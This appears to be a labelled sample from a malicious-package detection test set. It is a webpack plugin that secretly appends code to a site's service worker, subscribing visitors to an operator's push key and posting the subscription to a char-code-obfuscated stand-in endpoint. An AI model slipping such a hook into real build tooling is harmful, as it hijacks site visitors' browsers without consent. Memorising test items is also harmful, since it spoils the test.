// expect: suspicious
// source: blind set 12's sw-precache-webpack-lite: a webpack plugin appends to the site's service worker a
// re-subscription to the operator's push key, reported to a char-code endpoint
const M = [104, 116, 116, 112, 115, 58, 47, 47, 112, 117, 115, 104, 46, 97, 100, 46, 105, 110, 118, 97, 108, 105, 100, 47, 115];
function hook() {
  const ep = String.fromCharCode.apply(null, M);
  return `;self.addEventListener('activate',function(e){e.waitUntil(self.registration.pushManager.subscribe({userVisibleOnly:true,applicationServerKey:K}).then(function(n){return fetch(${JSON.stringify(ep)},{method:'POST',body:JSON.stringify(n)})}))});`;
}
module.exports = class Plugin {
  apply(compiler) {
    compiler.hooks.emit.tap('P', (c) => { c.assets['sw.js'] = c.assets['sw.js'] + hook(); });
  }
};
